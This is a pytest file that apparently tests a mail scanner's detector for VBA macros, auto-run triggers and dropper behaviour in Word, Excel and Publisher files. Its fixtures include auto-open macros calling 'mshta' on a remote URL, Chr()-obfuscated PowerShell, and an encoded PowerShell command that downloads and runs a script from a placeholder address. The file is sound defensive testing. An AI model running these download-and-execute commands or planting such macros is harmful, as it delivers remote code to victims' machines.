"""VBA macros: presence, auto-run triggers and dropper behaviour, in every container, and benign look-alikes."""

import io
import zipfile

import pytest

from kakuri.detect.office_flat import OfficeFlat
from kakuri.detect.office_macros import OfficeMacros, extract_iocs
from tests.builders_office import (BUSINESS_MODULES, EMOTET_LIKE_MODULES, doc_with_vba, docx, office_findings,
                                   plain_doc, plain_xls, symbols_of, word2003_xml_with_vba, xls_with_vba, xlsx,
                                   xlsx_by_xlsxwriter)

DETECTOR = [OfficeMacros()]


@pytest.mark.parametrize("name, build", [
    ("請求書.doc", lambda m: doc_with_vba(m)),
    ("invoice.xls", lambda m: xls_with_vba({"ThisWorkbook": "Private Sub Workbook_Open()\n  Module1.Fetch\nEnd Sub\n",
                                              "Module1": m["Module1"]})),
    ("invoice.docm", lambda m: docx(macro=m)),
    ("invoice.xlsm", lambda m: xlsx(macro={"ThisWorkbook": "Sub Workbook_Open()\nModule1.Fetch\nEnd Sub\n", "Module1": m["Module1"]})),
    ("renamed.docx", lambda m: docx(macro=m)),  # macro-enabled content under a macro-free name
    ("invoice.doc", lambda m: word2003_xml_with_vba(m)),  # Word 2003 XML saved under .doc
])
def test_autoexec_dropper_macro_is_flagged_in_every_container(name, build):
    # office_flat runs first in the registry: it hands the Word 2003 XML's VBA project over as a part.
    findings = office_findings([OfficeFlat(), *DETECTOR], [(name, build(EMOTET_LIKE_MODULES))])
    assert {"MACRO_PRESENT", "MACRO_AUTOEXEC", "MACRO_SUSPICIOUS"} <= symbols_of(findings)
    suspicious = next(f for f in findings if f.symbol == "MACRO_SUSPICIOUS")
    assert "URLDownloadToFile" in suspicious.evidence["keywords"]
    assert "http://198.51.100.7/load/a1/" in suspicious.evidence["iocs"]
    assert all(f.part in (name, f"{name}/editdata.mso") for f in findings)


def test_autoexec_macro_in_zipped_xlsm_is_flagged_with_member_path(settings):
    from kakuri.pipeline import Scanner
    from tests.builders import make_message

    xlsm = xlsx(macro={"ThisWorkbook": "Sub Workbook_Open()\nShell \"cmd /c calc\"\nEnd Sub\n"})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("report.xlsm", xlsm)
    result = Scanner(settings).scan(make_message(attachments=[("report.zip", buf.getvalue())]))
    hits = {(f.symbol, f.part) for f in result.verdict.findings if f.detector == "office_macros"}
    assert ("MACRO_AUTOEXEC", "report.zip/report.xlsm") in hits
    assert result.verdict.action.value == "quarantine"


def test_trigger_names_are_reported():
    code = {"ThisDocument": "Sub AutoOpen()\nEnd Sub\n", "Module1": "Sub Document_Close()\nEnd Sub\n"}
    autoexec = next(f for f in office_findings(DETECTOR, [("a.doc", doc_with_vba(code))]) if f.symbol == "MACRO_AUTOEXEC")
    assert autoexec.evidence["triggers"] == "AutoOpen, Document_Close"


def test_business_macro_without_trigger_or_dropper_calls_is_only_present():
    findings = office_findings(DETECTOR, [("集計.xls", xls_with_vba(BUSINESS_MODULES))])
    assert symbols_of(findings) == {"MACRO_PRESENT"}


def test_project_of_attribute_only_modules_is_not_a_macro():
    empty = {"ThisWorkbook": "Attribute VB_Base = \"0{00020819-0000-0000-C000-000000000046}\"\n", "Sheet1": "\n' note\n"}
    assert office_findings(DETECTOR, [("book.xlsm", xlsx(macro=empty))]) == []


def test_button_click_handler_is_not_autoexec():
    code = {"Module1": "Private Sub CommandButton1_Click()\n  Range(\"A1\").Value = 1\nEnd Sub\n"}
    assert symbols_of(office_findings(DETECTOR, [("form.xlsm", xlsx(macro=code))])) == {"MACRO_PRESENT"}


def test_filesystemobject_is_not_suspicious_but_computed_progid_is():
    benign = {"Module1": 'Sub A()\nSet fso = CreateObject("Scripting.FileSystemObject")\nEnd Sub\n'}
    hidden = {"Module1": 'Sub A()\nSet o = CreateObject(StrConv(k, vbUnicode))\nEnd Sub\n'}
    assert "MACRO_SUSPICIOUS" not in symbols_of(office_findings(DETECTOR, [("a.xlsm", xlsx(macro=benign))]))
    assert "MACRO_SUSPICIOUS" in symbols_of(office_findings(DETECTOR, [("a.xlsm", xlsx(macro=hidden))]))


def test_qualified_shell_call_is_suspicious():
    code = {"Module1": 'Sub A()\n  VBA.Interaction.Shell "cmd /c x", 0\nEnd Sub\n'}
    found = next(f for f in office_findings(DETECTOR, [("a.xlsm", xlsx(macro=code))]) if f.symbol == "MACRO_SUSPICIOUS")
    assert "execute:Shell" in found.evidence["keywords"]


def test_chr_obfuscation_is_suspicious():
    payload = " & ".join(f"Chr({ord(c)})" for c in "powershell -w hidden")
    code = {"ThisDocument": f"Sub Document_Open()\n x = {payload}\nEnd Sub\n"}
    found = next(f for f in office_findings(DETECTOR, [("a.doc", doc_with_vba(code))]) if f.symbol == "MACRO_SUSPICIOUS")
    assert "obfuscation:Chr()" in found.evidence["keywords"]


def test_iocs_are_found_inside_powershell_encoded_command():
    import base64

    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    assert "http://203.0.113.9/p.ps1" in extract_iocs(f'x = "powershell -enc {blob}"')


@pytest.mark.parametrize("name, data", [
    ("plain.doc", plain_doc()), ("plain.xls", plain_xls()), ("見積.xlsx", xlsx_by_xlsxwriter()), ("minutes.docx", docx()),
])
def test_documents_without_macros_stay_clean(name, data):
    assert office_findings(DETECTOR, [(name, data)]) == []


def test_corrupt_ole_file_is_unparseable_not_a_crash():
    broken = doc_with_vba(EMOTET_LIKE_MODULES)[:1100]  # header and FAT survive, the directory does not
    findings = office_findings(DETECTOR, [("broken.doc", broken)])
    assert symbols_of(findings) == {"OFFICE_UNPARSEABLE"}


def test_oversized_document_is_not_parsed():
    findings = office_findings([OfficeMacros(max_part_bytes=1000)], [("big.doc", doc_with_vba(EMOTET_LIKE_MODULES))])
    assert symbols_of(findings) == {"OFFICE_UNPARSEABLE"}


def test_truncated_package_with_vba_member_is_handled():
    data = docx(macro=EMOTET_LIKE_MODULES)
    findings = office_findings(DETECTOR, [("cut.docm", data[: len(data) // 2])])
    assert symbols_of(findings) == {"OFFICE_UNPARSEABLE"}


def test_publisher_document_macro_that_runs_on_open_is_flagged():
    # Publisher keeps its VBA project at the root of the compound file, beside its Quill contents.
    from tests.builders_office import ole_file, vba_storage

    streams = {"Quill/QuillSub/CONTENTS": b"\0" * 512, "Contents": b"\0" * 512}
    streams.update(vba_storage({"ThisDocument": "Private Sub Document_Open()\n  Shell \"mshta http://198.51.100.4/p\"\nEnd Sub\n"},
                               "", host_module="ThisDocument"))
    findings = office_findings([OfficeMacros()], [("チラシ.pub", ole_file(streams))])
    assert {"MACRO_PRESENT", "MACRO_AUTOEXEC", "MACRO_SUSPICIOUS"} <= symbols_of(findings)
